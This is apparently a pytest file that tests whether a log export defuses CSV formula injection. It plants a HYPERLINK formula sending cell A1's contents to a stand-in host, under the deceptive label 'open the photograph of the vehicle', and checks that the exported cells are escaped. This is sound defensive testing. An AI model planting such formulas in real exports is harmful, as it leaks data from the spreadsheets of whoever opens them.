"""What it tries: a reason that is a formula, which runs in the spreadsheet of whoever takes the log out.

What stops it: a cell that a spreadsheet would run gets an apostrophe in front of it, by which it is text (464.6).
"""

from __future__ import annotations

import csv
import io
import json
import secrets

import pytest

from tests.bypass.attack import Control, Ground
from tests.bypass.page import confirm

DECLARE = 'call("POST", "/purposes", {**WHY, **json.loads(ARGUMENTS[0])})'
REVIEW = 'sys.stdout.write(json.dumps({"status": 200, "length": 0, "body": declare()}) + chr(10))'
EXPORT = 'call("POST", "/log/export", {"purpose_id": ARGUMENTS[0], "case_number": ARGUMENTS[1]})'
LEAK = 'HYPERLINK("http://example.org/?"&A1,"open the photograph of the vehicle")'
SIGNS = ("=", "+", "-", "@")


def _attack(ground: Ground, sign: str) -> list[str]:
    """Ana declares it, Adam confirms that he takes the case's records out: cells that his spreadsheet would run."""
    case, formula = f"26-{secrets.randbelow(10**6):06}", f"{sign}{LEAK}"
    declared = ground.attack("ana", DECLARE, json.dumps({"case_number": case, "narrative": formula}))[0]
    assert declared.status == 200, declared
    purpose = ground.attack("adam", REVIEW)[0].body
    asked = ground.attack("adam", EXPORT, purpose, case)[0]
    assert asked.kind == "assent-required", asked
    confirm(ground, asked.body["assent"], "adam")
    taken = ground.attack("adam", EXPORT, purpose, case)[0]
    assert taken.status == 200, taken
    cells = [cell for row in csv.reader(io.StringIO(taken.body["csv"], newline="")) for cell in row]
    assert [cell for cell in cells if LEAK in cell]
    return [cell for cell in cells if cell.startswith(SIGNS)]


@pytest.mark.parametrize("sign", SIGNS)
def test_blocked(strong: Ground, sign: str) -> None:
    """It is there, letter by letter, as text."""
    assert _attack(strong, sign) == []


def test_control(weak: Control) -> None:
    """Where cells are written as they are given, it would run."""
    assert _attack(weak, "=") == []
    with weak.taken("guarded cells"):
        assert _attack(weak, "=") == [f"={LEAK}"]
